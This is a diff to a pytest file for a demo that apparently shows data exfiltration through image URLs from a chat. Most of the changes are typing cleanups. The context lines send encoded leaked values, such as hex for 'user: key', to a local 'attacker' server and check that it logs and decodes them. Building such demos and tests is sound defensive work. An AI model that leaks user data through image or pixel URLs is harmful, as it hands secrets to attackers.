@@ -13,6 +13,7 @@ import sys
 import time
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import httpx
 import pytest
@@ -197,10 +198,11 @@ def _info(url: str, port: int) -> dict[str, object]:
     return _get(url + "/demo/info", f"127.0.0.1:{port}").json()  # type: ignore[no-any-return]
 
 
-def _attacker_log(url: str, port: int, since: int = 0) -> dict[str, object]:
+def _attacker_log(url: str, port: int, since: int = 0) -> dict[str, Any]:
     answer = _get(f"{url}/demo/attacker?since={since}", f"127.0.0.1:{port}")
     assert answer.status_code == 200
-    return answer.json()  # type: ignore[no-any-return]
+    log: dict[str, Any] = answer.json()
+    return log
 
 
 def test_the_demo_starts_its_own_attacker_on_another_loopback_port(
@@ -218,7 +220,7 @@ def test_the_demo_starts_its_own_attacker_on_another_loopback_port(
     hit = httpx.get(f"{origin}/pixel.png?n=1&d={leak}", cookies={"session": "s"}, timeout=10)
     assert hit.status_code == 200
     assert hit.headers["content-type"].startswith("image/svg+xml")
-    [entry] = _attacker_log(url, port, before)["requests"]  # type: ignore[misc]
+    [entry] = _attacker_log(url, port, before)["requests"]
     assert entry["path"] == "/pixel.png"
     assert entry["query"] == f"n=1&d={leak}"
     # No "-" or "_" in this one: its alphabet is both base64's and base64url's.
@@ -249,7 +251,7 @@ def test_the_attacker_checks_the_host_as_strictly(demo: tuple[str, int], host: s
     assert answer.status_code == 400
     assert "Host not allowed" in answer.text
     assert _get(origin + "/p.png", f"localhost:{attacker_port}").status_code == 200
-    after = _attacker_log(url, port, int(before))  # type: ignore[call-overload]
+    after = _attacker_log(url, port, int(before))
     assert [e["path"] for e in after["requests"]] == ["/p.png"]  # the refused one is not kept
 
 
@@ -374,7 +376,7 @@ def test_the_command_line_demo_starts_the_attacker() -> None:
         assert _get(origin + "/t.gif?h=757365723a206b6579", f"127.0.0.1:{attacker_port}").is_success
         assert _get(origin + "/t.gif", f"attacker.example:{attacker_port}").status_code == 400
         assert _get(origin + "/t.gif", f"127.0.0.1:{port}").status_code == 400
-        [entry] = _attacker_log(url, port)["requests"]  # type: ignore[misc]
+        [entry] = _attacker_log(url, port)["requests"]
         assert entry["decoded"] == [{"where": "query h", "encoding": "hex", "text": "user: key"}]
         reply = httpx.post(
             f"{url}/raw/chat?scenario=attack&delay=0", headers={"host": f"localhost:{port}"}
